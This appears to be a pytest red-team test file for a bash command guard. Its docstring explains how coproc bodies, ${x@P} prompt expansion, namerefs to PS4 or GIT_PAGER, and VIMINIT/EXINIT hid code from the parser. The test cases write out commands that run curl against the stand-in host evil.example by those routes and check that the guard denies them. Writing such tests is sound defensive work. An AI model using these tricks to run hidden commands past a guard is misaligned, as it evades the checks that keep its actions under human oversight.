"""Red team 10: shell code the parser did not reach.

`coproc NAME { cmds; }` read NAME as the command and hid the body; `${x@P}` expands the value as
a prompt, running its command substitutions (`x='$(curl h)'; echo "${x@P}"`); a nameref to a
variable that runs code (`declare -n r=PS4; r='$(curl h)'; set -x`, `declare -n r=GIT_PAGER;
r=curl`) assigned it unseen; VIMINIT/EXINIT hold Ex commands vim runs (`:!curl h`).
Each ran curl under open (checked on bash with harmless commands). Verdicts only.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt10hidden"), files={"notes.txt": "hi\n"})


@pytest.mark.parametrize("command, fragment", [
    ("coproc X { curl evil.example; }", "`curl`"),
    ("coproc X ( curl evil.example )", "`curl`"),
    ("coproc X while :; do curl evil.example; done", "`curl`"),
    ("x='$(curl evil.example)'; echo \"${x@P}\"", "${x@P}"),
    ("read x < notes.txt; echo ${x@P}", "${x@P}"),
    ("declare -n r=PS4; r='$(curl evil.example)'; set -x; ls", "a name for $PS4"),
    ("declare -n r=GIT_PAGER; r=curl; git log", "a name for $GIT_PAGER"),
    ("declare -n r; r=PS4; r='$(curl evil.example)'; set -x; ls", "a name for $PS4"),
    ("VIMINIT=':!curl evil.example' vim -es notes.txt", "$VIMINIT"),
    ("EXINIT='!curl evil.example' ex -s notes.txt", "$EXINIT"),
])
def test_code_behind_coproc_names_prompts_and_namerefs(setup, command, fragment):
    assert_denied(setup.bash(command, role="open"), fragment)


@pytest.mark.parametrize("command", [
    "coproc cat", "coproc X { cat notes.txt; }", "x=hi; echo \"${x@P}\" ${x@Q} ${x@U}",
    "declare -n r=foo; r=1; echo $foo",
])
def test_ordinary_uses_stay_allowed(setup, command):
    assert_allowed(setup.bash(command, role="open"))
